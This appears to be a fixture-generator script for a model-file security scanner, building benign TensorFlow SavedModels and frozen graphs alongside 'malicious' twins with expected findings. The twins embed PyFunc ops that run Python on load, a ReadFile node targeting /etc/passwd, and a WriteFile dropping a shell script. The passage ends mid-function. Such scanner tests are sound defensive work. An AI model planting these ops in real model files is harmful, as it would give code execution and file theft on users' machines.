#!/usr/bin/env python3
"""Writes modelaudit's TensorFlow fixtures (SavedModel files and frozen GraphDefs) and their manifest.

    /usr/bin/python3 scripts/make_tensorflow_fixtures.py

TensorFlow cannot be installed here. The messages are built with Debian's python3-protobuf from the schema the
scanner reads (``scanners/tensorflow/protos.json``, written from TensorFlow's own compiled descriptors by
``make_tensorflow_descriptor.py``; ``tensorflow_protos.message_classes`` turns it back into Python classes), and
their layouts follow what TensorFlow writes:

- ``tf1_saver``: ``tf.compat.v1.saved_model.Builder`` output as TF 1.x writes it: VariableV2/Assign/read
  variables, the ``save/`` subgraph of ``tf.compat.v1.train.Saver(sharded=True)`` (StringJoin, ShardedFilename,
  SaveV2, MergeV2Checkpoints, RestoreV2 and Assign per variable) fed by ``save/Const:0`` (the saver_def's
  filename tensor), a ``serving_default`` signature;
- ``tf2_function``: ``tf.saved_model.save`` output as TF 2.x writes it: a VarHandleOp, StatefulPartitionedCall
  nodes calling ``__inference_*`` library functions, ``__inference__traced_save_*`` (StaticRegexFullMatch,
  Select, StringJoin, ShardedFilename, SaveV2, MergeV2Checkpoints) and ``__inference__traced_restore_*``
  (RestoreV2, AssignVariableOp) fed by the ``saver_filename`` placeholder, and the object graph serialized in a
  string constant, as TF 2.4 writes it;
- frozen GraphDefs as ``convert_variables_to_constants`` leaves them: Const weights in ``tensor_content``;
- ``keras_metadata.pb`` as TF-Keras 2.x writes it: one JSON config per layer.

Both layouts were checked against SavedModels TensorFlow wrote (TF 2.4.1 and TF 1.1.0, from tensorflow/java's
test resources, not committed): decoded with these classes they re-serialize byte for byte (the 2.4.1 one) and
leave no unknown field, and the scanner finds them clean.

Malicious twins change one thing each: a PyFunc, a file op, a checkpoint path fixed in the graph, a custom op,
a graph nested in a string constant, a server address, a Lambda layer, a truncated file. Payload strings are
harmless (``echo pwned``); nothing is ever loaded. Expected positions are the offsets of the NodeDefs in the
serialized bytes (each found exactly once), key paths the scanner's. Deterministic: re-running gives no diff.
"""

from __future__ import annotations

import base64
import json
import marshal
import struct

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("google.protobuf",))

from dataclasses import dataclass, field  # noqa: E402

import google.protobuf  # noqa: E402
from google.protobuf import text_format  # noqa: E402

from fixture_manifest import (  # noqa: E402
    ROOT, build_manifest, expected_finding, fixture_entry, python_version, write_fixtures,
)
from tensorflow_protos import message_classes  # noqa: E402

OUT = ROOT / "fixtures" / "tensorflow"
MAX_FIXTURE_BYTES = 64 * 1024
MAX_TOTAL_BYTES = 400 * 1024

C = message_classes()
SavedModel = C["tensorflow.SavedModel"]
GraphDef = C["tensorflow.GraphDef"]
NodeDef = C["tensorflow.NodeDef"]
AttrValue = C["tensorflow.AttrValue"]
ListValue = C["tensorflow.AttrValue.ListValue"]
FunctionDef = C["tensorflow.FunctionDef"]
TrackableObjectGraph = C["tensorflow.TrackableObjectGraph"]
SavedMetadata = C["third_party.py.tf_keras.protobuf.SavedMetadata"]
FingerprintDef = C["tensorflow.FingerprintDef"]

DT_FLOAT, DT_INT32, DT_STRING, DT_BOOL, DT_RESOURCE, DT_VARIANT = 1, 3, 7, 10, 20, 21
TF1_VERSION, TF2_VERSION = "1.15.5", "2.11.0"

ASSUMPTIONS = [
    "tf.saved_model.load reads saved_model.pb by name, whatever it holds; any other .pb is read as a GraphDef "
    "(a frozen graph) by the user's code",
    "SaveV2/RestoreV2/MergeV2Checkpoints fed by the saver's filename tensor or a function argument the loader "
    "passes are the loader's own and stay silent",
    "PyFunc, EagerPyFunc and PyFuncStateless run the Python registered under their token when the graph runs",
]


@dataclass
class Fx:
    file: str
    kind: str
    technique: str
    data: bytes
    format: str = "tensorflow-graphdef"
    findings: list = field(default_factory=list)


# ---------------------------------------------------------------------------------------------- attr helpers


def a_type(dtype: int):
    return AttrValue(type=dtype)


def a_shape(*dims: int):
    value = AttrValue()
    for dim in dims:
        value.shape.dim.add(size=dim)
    return value


def a_bool(flag: bool):
    return AttrValue(b=flag)


def a_int(number: int):
    return AttrValue(i=number)


def a_s(text: str | bytes):
    return AttrValue(s=text.encode() if isinstance(text, str) else text)


def a_func(name: str, **attrs):
    value = AttrValue()
    value.func.name = name
    for key, inner in attrs.items():
        value.func.attr[key].CopyFrom(inner)
    return value


def a_types(*dtypes: int):
    value = AttrValue()
    value.list.type.extend(dtypes)
    return value


def a_strings(*texts: str):
    value = AttrValue()
    value.list.s.extend(t.encode() for t in texts)
    return value


def a_string_tensor(*values: bytes | str, shape: tuple[int, ...] | None = None):
    value = AttrValue()
    value.tensor.dtype = DT_STRING
    for dim in (shape if shape is not None else (() if len(values) == 1 else (len(values),))):
        value.tensor.tensor_shape.dim.add(size=dim)
    value.tensor.string_val.extend(v.encode() if isinstance(v, str) else v for v in values)
    return value


def a_float_tensor(*dims: int, seed: int = 0):
    """A float tensor whose content is ``prod(dims)`` small deterministic values, as frozen graphs store weights."""
    value = AttrValue()
    value.tensor.dtype = DT_FLOAT
    count = 1
    for dim in dims:
        value.tensor.tensor_shape.dim.add(size=dim)
        count *= dim
    value.tensor.tensor_content = struct.pack(f"<{count}f", *(((i * 7 + seed) % 13 - 6) / 10 for i in range(count)))
    return value


def a_int_tensor(*values: int):
    value = AttrValue()
    value.tensor.dtype = DT_INT32
    if len(values) > 1:
        value.tensor.tensor_shape.dim.add(size=len(values))
    value.tensor.int_val.extend(values)
    return value


def node(name: str, op: str, *inputs: str, device: str = "", **attrs):
    out = NodeDef(name=name, op=op, device=device)
    out.input.extend(inputs)
    for key, value in attrs.items():
        out.attr[key].CopyFrom(value)
    return out


def const_string(name: str, *values: str):
    return node(name, "Const", dtype=a_type(DT_STRING), value=a_string_tensor(*values))


def const_int(name: str, *values: int):
    return node(name, "Const", dtype=a_type(DT_INT32), value=a_int_tensor(*values))


def const_float(name: str, *dims: int, seed: int = 0):
    return node(name, "Const", dtype=a_type(DT_FLOAT), value=a_float_tensor(*dims, seed=seed))


def graph(*nodes, producer: int = 1087, functions=()):
    out = GraphDef()
    out.node.extend(nodes)
    out.versions.producer = producer
    out.library.function.extend(functions)
    return out


def function(name: str, args: list[tuple[str, int]], outputs: list[tuple[str, int]], nodes, ret: dict[str, str],
             stateful: bool = False):
    out = FunctionDef()
    out.signature.name = name
    for arg, dtype in args:
        out.signature.input_arg.add(name=arg, type=dtype)
    for arg, dtype in outputs:
        out.signature.output_arg.add(name=arg, type=dtype)
    out.signature.is_stateful = stateful
    out.node_def.extend(nodes)
    for key, value in ret.items():
        out.ret[key] = value
    return out


def stripped_op_list(meta, graph_def) -> None:
    """The ops the graph uses, as meta_info_def.stripped_op_list lists them (names only: descriptions are stripped)."""
    functions = {f.signature.name for f in graph_def.library.function}
    ops = {n.op for n in graph_def.node} | {n.op for f in graph_def.library.function for n in f.node_def}
    for op in sorted(ops - functions):
        meta.meta_info_def.stripped_op_list.op.add(name=op)


def saved_model(graph_def, *, tf_version: str, saver: dict, signature: tuple[str, str, str] | None = None,
                assets: list[tuple[str, str]] = (), object_graph: bool = False) -> bytes:
    model = SavedModel(saved_model_schema_version=1)
    meta = model.meta_graphs.add()
    meta.meta_info_def.tags.append("serve")
    meta.meta_info_def.tensorflow_version = tf_version
    meta.meta_info_def.tensorflow_git_version = f"v{tf_version}-0-g000000"
    meta.meta_info_def.stripped_default_attrs = tf_version.startswith("2")
    stripped_op_list(meta, graph_def)
    meta.graph_def.CopyFrom(graph_def)
    for key, value in saver.items():
        setattr(meta.saver_def, key, value)
    if signature:
        key, inp, out = signature
        sig = meta.signature_def[key]
        sig.inputs["x"].name = inp
        sig.inputs["x"].dtype = DT_FLOAT
        sig.outputs["y"].name = out
        sig.outputs["y"].dtype = DT_FLOAT
        sig.method_name = "tensorflow/serving/predict"
    for tensor, filename in assets:
        asset = meta.asset_file_def.add(filename=filename)
        asset.tensor_info.name = tensor
        asset.tensor_info.dtype = DT_STRING
    if object_graph:
        root = meta.object_graph_def.nodes.add()
        root.children.add(node_id=1, local_name="v")
        root.user_object.identifier = "_generic_user_object"
        variable = meta.object_graph_def.nodes.add()
        variable.variable.dtype = DT_FLOAT
        variable.variable.name = "Variable"
    return model.SerializeToString(deterministic=True)


# ----------------------------------------------------------------------------------------------- TF1 layout

TF1_SAVER = {"filename_tensor_name": "save/Const:0", "save_tensor_name": "save/Identity:0",
             "restore_op_name": "save/restore_all", "max_to_keep": 5, "sharded": True,
             "keep_checkpoint_every_n_hours": 10000.0, "version": 2}


def tf1_variables():
    out = [node("x", "Placeholder", dtype=a_type(DT_FLOAT), shape=a_shape(-1, 4))]
    for name, dims in (("w", (4, 2)), ("b", (2,))):
        out += [
            const_float(f"{name}/initial_value", *dims, seed=len(name)),
            node(name, "VariableV2", dtype=a_type(DT_FLOAT), shape=a_shape(*dims), container=a_s(""),
                 shared_name=a_s("")),
            node(f"{name}/Assign", "Assign", name, f"{name}/initial_value", T=a_type(DT_FLOAT),
                 _class=a_strings(f"loc:@{name}"), use_locking=a_bool(True), validate_shape=a_bool(True)),
            node(f"{name}/read", "Identity", name, T=a_type(DT_FLOAT), _class=a_strings(f"loc:@{name}")),
        ]
    out += [
        node("MatMul", "MatMul", "x", "w/read", T=a_type(DT_FLOAT), transpose_a=a_bool(False),
             transpose_b=a_bool(False)),
        node("BiasAdd", "BiasAdd", "MatMul", "b/read", T=a_type(DT_FLOAT), data_format=a_s("NHWC")),
        node("y", "Softmax", "BiasAdd", T=a_type(DT_FLOAT)),
        node("init", "NoOp", "^w/Assign", "^b/Assign"),
    ]
    return out


def tf1_saver(restore_prefix: str = "save/Const"):
    """tf.compat.v1.train.Saver(sharded=True)'s save/ subgraph; RestoreV2 reads from ``restore_prefix``."""
    names = ("b", "w")
    return [
        const_string("save/Const", "model"),
        const_string("save/StringJoin/inputs_1", "_temp_0123456789abcdef0123456789abcdef/part"),
        node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1", N=a_int(2),
             separator=a_s("")),
        const_int("save/num_shards", 1),
        const_int("save/ShardedFilename/shard", 0),
        node("save/ShardedFilename", "ShardedFilename", "save/StringJoin", "save/ShardedFilename/shard",
             "save/num_shards"),
        const_string("save/SaveV2/tensor_names", *names),
        const_string("save/SaveV2/shape_and_slices", "", ""),
        node("save/SaveV2", "SaveV2", "save/ShardedFilename", "save/SaveV2/tensor_names",
             "save/SaveV2/shape_and_slices", *names, dtypes=a_types(DT_FLOAT, DT_FLOAT)),
        node("save/control_dependency", "Identity", "save/ShardedFilename", "^save/SaveV2", T=a_type(DT_STRING),
             _class=a_strings("loc:@save/ShardedFilename")),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", "save/ShardedFilename",
             "^save/control_dependency", N=a_int(1), T=a_type(DT_STRING), axis=a_int(0)),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints", "save/MergeV2Checkpoints/checkpoint_prefixes",
             "save/Const", delete_old_dirs=a_bool(True)),
        node("save/Identity", "Identity", "save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency",
             T=a_type(DT_STRING)),
        const_string("save/RestoreV2/tensor_names", *names),
        const_string("save/RestoreV2/shape_and_slices", "", ""),
        node("save/RestoreV2", "RestoreV2", restore_prefix, "save/RestoreV2/tensor_names",
             "save/RestoreV2/shape_and_slices", dtypes=a_types(DT_FLOAT, DT_FLOAT)),
        node("save/Assign", "Assign", "b", "save/RestoreV2", T=a_type(DT_FLOAT), _class=a_strings("loc:@b")),
        node("save/Assign_1", "Assign", "w", "save/RestoreV2:1", T=a_type(DT_FLOAT), _class=a_strings("loc:@w")),
        node("save/restore_shard", "NoOp", "^save/Assign", "^save/Assign_1"),
        node("save/restore_all", "NoOp", "^save/restore_shard"),
    ]


def tf1_model(*extra, restore_prefix: str = "save/Const", assets=()) -> bytes:
    return saved_model(graph(*tf1_variables(), *extra, *tf1_saver(restore_prefix), producer=134),
                       tf_version=TF1_VERSION, saver=TF1_SAVER, signature=("serving_default", "x:0", "y:0"),
                       assets=assets)


# ----------------------------------------------------------------------------------------------- TF2 layout

TF2_SAVER = {"filename_tensor_name": "saver_filename:0", "save_tensor_name": "StatefulPartitionedCall_1:0",
             "restore_op_name": "StatefulPartitionedCall_2", "version": 2}


def object_graph_constant():
    """The object graph tf.saved_model.save (TF 2.4) keeps in a string constant: a protobuf that is no graph."""
    value = TrackableObjectGraph()
    root = value.nodes.add()
    root.children.add(node_id=1, local_name="v")
    root.children.add(node_id=2, local_name="signatures")
    variable = value.nodes.add()
    variable.attributes.add(name="VARIABLE_VALUE", full_name="Variable",
                            checkpoint_key="v/.ATTRIBUTES/VARIABLE_VALUE")
    value.nodes.add()
    return value.SerializeToString(deterministic=True)


def traced_save():
    return function(
        "__inference__traced_save_80",
        [("file_prefix", DT_STRING), ("savev2_variable_read_readvariableop", DT_FLOAT), ("savev2_const", DT_STRING)],
        [("identity_1", DT_STRING)],
        [
            node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix", pattern=a_s("^s3://.*")),
            const_string("Const", ".part"),
            const_string("Const_1", "_temp_0123456789abcdef0123456789abcdef/part"),
            node("Select", "Select", "StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0",
                 T=a_type(DT_STRING)),
            node("StringJoin", "StringJoin", "file_prefix", "Select:output:0", N=a_int(2)),
            const_int("num_shards", 1),
            const_int("ShardedFilename/shard", 0),
            node("ShardedFilename", "ShardedFilename", "StringJoin:output:0", "ShardedFilename/shard:output:0",
                 "num_shards:output:0"),
            const_string("SaveV2/tensor_names", "v/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
            const_string("SaveV2/shape_and_slices", "", ""),
            node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "SaveV2/tensor_names:output:0",
                 "SaveV2/shape_and_slices:output:0", "savev2_variable_read_readvariableop", "savev2_const",
                 dtypes=a_types(DT_FLOAT, DT_STRING)),
            node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", "ShardedFilename:filename:0", "^SaveV2",
                 N=a_int(1), T=a_type(DT_STRING)),
            node("MergeV2Checkpoints", "MergeV2Checkpoints", "MergeV2Checkpoints/checkpoint_prefixes:output:0",
                 "file_prefix"),
            node("Identity", "Identity", "file_prefix", "^MergeV2Checkpoints", T=a_type(DT_STRING)),
            node("Identity_1", "Identity", "Identity:output:0", "^MergeV2Checkpoints", T=a_type(DT_STRING)),
        ],
        {"identity_1": "Identity_1:output:0"},
        stateful=True,
    )


def traced_restore():
    return function(
        "__inference__traced_restore_90",
        [("file_prefix", DT_STRING), ("assignvariableop_variable", DT_RESOURCE)],
        [("identity_2", DT_STRING)],
        [
            const_string("RestoreV2/tensor_names", "v/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
            const_string("RestoreV2/shape_and_slices", "", ""),
            node("RestoreV2", "RestoreV2", "file_prefix", "RestoreV2/tensor_names:output:0",
                 "RestoreV2/shape_and_slices:output:0", dtypes=a_types(DT_FLOAT, DT_STRING)),
            node("Identity", "Identity", "RestoreV2:tensors:0", T=a_type(DT_FLOAT)),
            node("AssignVariableOp", "AssignVariableOp", "assignvariableop_variable", "Identity:output:0",
                 dtype=a_type(DT_FLOAT)),
            node("NoOp", "NoOp"),
            node("Identity_1", "Identity", "file_prefix", "^AssignVariableOp", "^NoOp", T=a_type(DT_STRING)),
            node("Identity_2", "Identity", "Identity_1:output:0", "^AssignVariableOp", T=a_type(DT_STRING)),
        ],
        {"identity_2": "Identity_2:output:0"},
        stateful=True,
    )


def serving_call(*extra_nodes, output: str = "MatMul:product:0"):
    return function(
        "__inference_call_40",
        [("x", DT_FLOAT), ("matmul_readvariableop_resource", DT_RESOURCE)],
        [("identity", DT_FLOAT)],
        [
            node("MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource", dtype=a_type(DT_FLOAT)),
            node("MatMul", "MatMul", "x", "MatMul/ReadVariableOp:value:0", T=a_type(DT_FLOAT)),
            *extra_nodes,
            node("Identity", "Identity", output, T=a_type(DT_FLOAT)),
        ],
        {"identity": "Identity:output:0"},
        stateful=True,
    )


def tf2_model(call=None, restore_path_node=None, extra_nodes=(), extra_functions=(), assets=()) -> bytes:
    """tf.saved_model.save of a module with one variable and a serving function; ``restore_path_node`` replaces
    the saver_filename placeholder as the restore function's path."""
    restore_from = "saver_filename" if restore_path_node is None else restore_path_node.name
    nodes = [
        node("Variable", "VarHandleOp", dtype=a_type(DT_FLOAT), shape=a_shape(4, 2), shared_name=a_s("Variable"),
             allowed_devices=a_strings(), container=a_s("")),
        node("Variable/Read/ReadVariableOp", "ReadVariableOp", "Variable", dtype=a_type(DT_FLOAT)),
        node("Const", "Const", dtype=a_type(DT_STRING), value=a_string_tensor(object_graph_constant())),
        node("NoOp", "NoOp"),
        node("serving_default_x", "Placeholder", dtype=a_type(DT_FLOAT), shape=a_shape(-1, 4)),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", "serving_default_x", "Variable",
             Tin=a_types(DT_FLOAT, DT_RESOURCE), Tout=a_types(DT_FLOAT), f=a_func("__inference_call_40"),
             config=a_s(""), config_proto=a_s(b"\n\x07\n\x03CPU\x10\x01"), executor_type=a_s("")),
        node("saver_filename", "Placeholder", dtype=a_type(DT_STRING), shape=a_shape()),
        *([restore_path_node] if restore_path_node is not None else []),
        *extra_nodes,
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall", "saver_filename",
             "Variable/Read/ReadVariableOp", "Const", Tin=a_types(DT_STRING, DT_FLOAT, DT_STRING),
             Tout=a_types(DT_STRING), f=a_func("__inference__traced_save_80")),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", restore_from, "Variable",
             Tin=a_types(DT_STRING, DT_RESOURCE), Tout=a_types(DT_STRING), f=a_func("__inference__traced_restore_90")),
    ]
    functions = [call or serving_call(), traced_save(), traced_restore(), *extra_functions]
    return saved_model(graph(*nodes, functions=functions), tf_version=TF2_VERSION, saver=TF2_SAVER,
                       signature=("serving_default", "serving_default_x:0", "StatefulPartitionedCall:0"),
                       assets=assets, object_graph=True)


def tf2_vocabulary(path_source: str):
    """What tf.saved_model.save (TF 2.x, save.py's _process_asset) writes for a table initialised from an asset:
    the asset path in a variable assigned from ``path_source`` (the asset_path_initializer placeholder the
    loader feeds), read and passed to the initializer function by a StatefulPartitionedCall."""
    nodes = [
        node("hash_table", "HashTableV2", shared_name=a_s("hash_table_vocab_txt"), key_dtype=a_type(DT_STRING),
             value_dtype=a_type(DT_INT32), container=a_s(""), use_node_name_sharing=a_bool(False)),
        node("Variable_1", "VarHandleOp", dtype=a_type(DT_STRING), shape=a_shape(), shared_name=a_s("Variable_1"),
             container=a_s("")),
        node("Variable_1/Assign", "AssignVariableOp", "Variable_1", path_source, dtype=a_type(DT_STRING)),
        node("Variable_1/Read/ReadVariableOp", "ReadVariableOp", "Variable_1", dtype=a_type(DT_STRING)),
        node("StatefulPartitionedCall_3", "StatefulPartitionedCall", "hash_table", "Variable_1/Read/ReadVariableOp",
             Tin=a_types(DT_RESOURCE, DT_STRING), Tout=a_types(), f=a_func("__inference__initializer_20")),
    ]
    initializer = function(
        "__inference__initializer_20", [("statichashtable", DT_RESOURCE), ("asset_path", DT_STRING)], [],
        [node("text_file_init/InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", "statichashtable",
              "asset_path", key_index=a_int(-2), value_index=a_int(-1), vocab_size=a_int(-1), delimiter=a_s("\t"),
              offset=a_int(0))],
        {}, stateful=True)
    return nodes, [initializer]


# ---------------------------------------------------------------------------------------------- frozen graphs


def frozen_conv(*extra):
    return graph(
        node("input", "Placeholder", dtype=a_type(DT_FLOAT), shape=a_shape(1, 8, 8, 3)),
        const_float("conv/weights", 3, 3, 3, 4, seed=1),
        node("conv/Conv2D", "Conv2D", "input", "conv/weights", T=a_type(DT_FLOAT), strides=AttrValue(
            list=ListValue(i=[1, 1, 1, 1])), padding=a_s("SAME"), data_format=a_s("NHWC"),
             use_cudnn_on_gpu=a_bool(True)),
        const_float("conv/bias", 4, seed=2),
        node("conv/BiasAdd", "BiasAdd", "conv/Conv2D", "conv/bias", T=a_type(DT_FLOAT)),
        node("conv/Relu", "Relu", "conv/BiasAdd", T=a_type(DT_FLOAT)),
        const_int("flatten/shape", -1, 256),
        node("flatten/Reshape", "Reshape", "conv/Relu", "flatten/shape", T=a_type(DT_FLOAT), Tshape=a_type(DT_INT32)),
        const_float("dense/kernel", 256, 10, seed=3),
        node("dense/MatMul", "MatMul", "flatten/Reshape", "dense/kernel", T=a_type(DT_FLOAT)),
        node("output", "Softmax", "dense/MatMul", T=a_type(DT_FLOAT)),
        *extra,
    ).SerializeToString(deterministic=True)


def dataset_graph(*nodes) -> bytes:
    """A graph handed to DatasetFromGraph, as tf.data serializes a dataset (``_as_serialized_graph``)."""
    return graph(*nodes, producer=1087).SerializeToString(deterministic=True)


def range_dataset():
    return [
        const_int("start", 0), const_int("stop", 10), const_int("step", 1),
        node("RangeDataset", "RangeDataset", "start", "stop", "step", output_types=a_types(DT_INT32),
             output_shapes=AttrValue(list=ListValue(shape=[AttrValue().shape]))),
        node("dataset", "_Retval", "RangeDataset", T=a_type(DT_VARIANT), index=a_int(0)),
    ]


def from_graph(inner: bytes):
    return graph(
        node("graph_def", "Const", dtype=a_type(DT_STRING), value=a_string_tensor(inner)),
        node("DatasetFromGraph", "DatasetFromGraph", "graph_def"),
    ).SerializeToString(deterministic=True)


# ------------------------------------------------------------------------------------------------------ keras


def keras_metadata(*layers) -> bytes:
    meta = SavedMetadata()
    model = {"name": "sequential", "trainable": True, "expects_training_arg": True, "dtype": "float32",
             "batch_input_shape": None, "must_restore_from_config": False, "class_name": "Sequential",
             "config": {"name": "sequential", "layers": [layer for _, layer in layers]},
             "keras_version": "2.11.0", "backend": "tensorflow"}
    meta.nodes.add(node_id=0, node_path="root", identifier="_tf_keras_sequential",
                   metadata=json.dumps(model, sort_keys=True)).version.producer = 2
    for index, (path, layer) in enumerate(layers, start=1):
        entry = meta.nodes.add(node_id=index, node_path=f"root.{path}", identifier="_tf_keras_layer",
                               metadata=json.dumps(layer, sort_keys=True))
        entry.version.producer = 1
        entry.version.min_consumer = 1
    return meta.SerializeToString(deterministic=True)


def dense(name: str, units: int) -> dict:
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32", "units": units,
                                                "activation": "relu", "use_bias": True,
                                                "kernel_initializer": {"class_name": "GlorotUniform",
                                                                       "config": {"seed": None}}}}


def lambda_layer() -> dict:
    """A Lambda as TF-Keras 2 saves it: ``func_dump`` of the lambda, base64 of marshalled bytecode."""
    code = compile("lambda x: x * 2", "<modelaudit-fixture>", "eval").co_consts[0]
    dumped = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "Lambda", "config": {"name": "double", "trainable": True, "dtype": "float32",
                                                 "function": [dumped, None, None], "function_type": "lambda",
                                                 "module": "__main__", "output_shape": None,
                                                 "output_shape_type": "raw", "arguments": {}}}


# --------------------------------------------------------------------------------------------------- findings


def offset_of(data: bytes, message) -> int:
    """Offset of the tag of the field that holds ``message`` (found exactly once) in ``data``."""
    payload = message.SerializeToString(deterministic=True)
    assert data.count(payload) == 1, (message.name if hasattr(message, "name") else message, data.count(payload))
    start = data.index(payload)
    length = len(payload)
    varint = 1
    while length >= 0x80:
        length >>= 7
        varint += 1
    return start - 1 - varint


def finding(rule: str, key_path: str | None = None, position: int | None = None, *, severity: str | None = None,
            details: dict | None = None, path: str = "") -> dict:
    out = expected_finding(rule, path, position, severity=severity)
    if key_path is not None:
        out["keyPath"] = key_path
    if details:
        out["details"] = details
    return out


def node_finding(rule: str, data: bytes, scope: str, nd, *, severity: str | None = None, details=None) -> dict:
    return finding(rule, f"{scope}['{nd.name}']", offset_of(data, nd), severity=severity, details=details)


MAIN = "$.meta_graphs[0].graph_def.node"


def fn(name: str) -> str:
    return f"$.meta_graphs[0].graph_def.library.function['{name}'].node_def"


def build() -> list[Fx]:
    fixtures: list[Fx] = []
    sm = "tensorflow-saved-model"

    # ------------------------------------------------------------------------------------------- benign
    fixtures.append(Fx("benign/tf1_saver/saved_model.pb", "benign", "TF1 SavedModel: variables, a sharded "
                       "Saver's SaveV2/RestoreV2/MergeV2Checkpoints fed by save/Const:0", tf1_model(), sm))
    fixtures.append(Fx("benign/tf2_function/saved_model.pb", "benign", "TF2 SavedModel: StatefulPartitionedCall "
                       "into library functions, traced save/restore fed by saver_filename, the object graph in a "
                       "string constant", tf2_model(), sm))
    fixtures.append(Fx("benign/tf1_saver_text/saved_model.pbtxt", "benign", "the TF1 SavedModel in text format "
                       "(saved_model.pbtxt)", text_format.MessageToString(SavedModel.FromString(tf1_model())).encode(),
                       sm))
    vocab = [
        node("hash_table", "HashTableV2", container=a_s(""), shared_name=a_s("hash_table_vocab"),
             key_dtype=a_type(DT_STRING), value_dtype=a_type(DT_INT32), use_node_name_sharing=a_bool(False)),
        const_string("asset_path", "vocab.txt"),
        node("table_init", "InitializeTableFromTextFileV2", "hash_table", "asset_path", key_index=a_int(-2),
             value_index=a_int(-1), vocab_size=a_int(-1), delimiter=a_s("\t"), offset=a_int(0)),
    ]
    fixtures.append(Fx("benign/vocab_table/saved_model.pb", "benign", "TF1 SavedModel with a vocabulary table "
                       "initialised from an asset the loader feeds (asset_file_def)",
                       tf1_model(*vocab, assets=[("asset_path:0", "vocab.txt")]), sm))
    placeholder = node("asset_path_initializer", "Placeholder", dtype=a_type(DT_STRING), shape=a_shape())
    vocab_nodes, vocab_functions = tf2_vocabulary("asset_path_initializer")
    fixtures.append(Fx("benign/tf2_vocab_table/saved_model.pb", "benign", "TF2 SavedModel with a table initialised "
                       "from an asset: its path in a variable assigned from the asset_path_initializer placeholder",
                       tf2_model(extra_nodes=[placeholder, *vocab_nodes], extra_functions=vocab_functions,
                                 assets=[("asset_path_initializer:0", "vocab.txt")]), sm))
    fixtures.append(Fx("benign/conv_frozen.pb", "benign", "frozen GraphDef: Conv2D, BiasAdd, MatMul with Const "
                       "weights in tensor_content", frozen_conv()))
    fixtures.append(Fx("benign/dataset_from_graph.pb", "benign", "DatasetFromGraph of a serialized RangeDataset "
                       "graph in a string constant", from_graph(dataset_graph(*range_dataset()))))
    fixtures.append(Fx("benign/keras_dense/keras_metadata.pb", "benign", "keras_metadata.pb of a Sequential of "
                       "two Dense layers as TF-Keras 2 writes it",
                       keras_metadata(("layer_with_weights-0", dense("dense", 8)),
                                      ("layer_with_weights-1", dense("dense_1", 2))), "tensorflow-keras-metadata"))
    fingerprint = FingerprintDef(saved_model_checksum=1234567890123, graph_def_program_hash=42,
                                 signature_def_hash=7, saved_object_graph_hash=9, checkpoint_hash=11)
    fingerprint.version.producer = 1
    fixtures.append(Fx("benign/keras_dense/fingerprint.pb", "benign", "fingerprint.pb as TF 2.11 writes it",
                       fingerprint.SerializeToString(deterministic=True), "tensorflow-fingerprint"))

    # ---------------------------------------------------------------------------------------- malicious
    pyfunc = node("PyFunc", "PyFunc", "MatMul", Tin=a_types(DT_FLOAT), Tout=a_types(DT_FLOAT), token=a_s("pyfunc_0"))
    data = tf1_model(pyfunc)
    fixtures.append(Fx("malicious/pyfunc/saved_model.pb", "malicious", "PyFunc in a TF1 SavedModel's graph", data,
                       sm, [node_finding("MA430", data, MAIN, pyfunc, details={"op": "PyFunc", "token": "pyfunc_0"})]))

    text_model = text_format.MessageToString(SavedModel.FromString(data)).encode()
    fixtures.append(Fx("malicious/pyfunc_text/saved_model.pbtxt", "malicious", "the PyFunc SavedModel in text "
                       "format, which tf.saved_model.load reads when there is no saved_model.pb", text_model, sm,
                       [finding("MA430", f"{MAIN}['PyFunc']", details={"token": "pyfunc_0"})]))

    eager = node("EagerPyFunc", "EagerPyFunc", "MatMul:product:0", Tin=a_types(DT_FLOAT), Tout=a_types(DT_FLOAT),
                 token=a_s("pyfunc_3"), is_async=a_bool(False))
    data = tf2_model(call=serving_call(eager, output="EagerPyFunc:output:0"))
    fixtures.append(Fx("malicious/eager_pyfunc/saved_model.pb", "malicious", "tf.py_function (EagerPyFunc) inside "
                       "a TF2 SavedModel's serving function", data, sm,
                       [node_finding("MA430", data, fn("__inference_call_40"), eager,
                                     details={"op": "EagerPyFunc", "function": "__inference_call_40"})]))

    stateless = node("PyFuncStateless", "PyFuncStateless", "conv/Relu", Tin=a_types(DT_FLOAT),
                     Tout=a_types(DT_FLOAT), token=a_s("pyfunc_1"))
    data = frozen_conv(stateless)
    fixtures.append(Fx("malicious/pyfunc_stateless_frozen.pb", "malicious", "tf.numpy_function (PyFuncStateless) "
                       "in a frozen GraphDef", data, findings=[node_finding("MA430", data, "$.node", stateless)]))

    via_attr = node("call", "StatefulPartitionedCall", "conv/Relu", Tin=a_types(DT_FLOAT), Tout=a_types(DT_FLOAT),
                    f=a_func("PyFunc", token=a_s("pyfunc_2")))
    data = frozen_conv(via_attr)
    fixtures.append(Fx("malicious/pyfunc_through_call.pb", "malicious", "StatefulPartitionedCall whose f attr names "
                       "the PyFunc op itself", data,
                       findings=[node_finding("MA430", data, "$.node", via_attr, details={"op": "PyFunc", "attr": "f", "token": "pyfunc_2"})]))

    path = const_string("secret_path", "/etc/passwd")
    read = node("read", "ReadFile", "secret_path")
    data = frozen_conv(path, read)
    fixtures.append(Fx("malicious/read_file_frozen.pb", "malicious", "ReadFile of an absolute path constant in a "
                       "frozen GraphDef", data, findings=[
                           node_finding("MA431", data, "$.node", read, severity="critical",
                                        details={"op": "ReadFile", "paths": ["/etc/passwd"], "access": "read"})]))

    target = const_string("target", "pwned.sh")
    contents = const_string("contents", "echo pwned")
    write = node("write", "WriteFile", "target", "contents")
    data = tf1_model(target, contents, write)
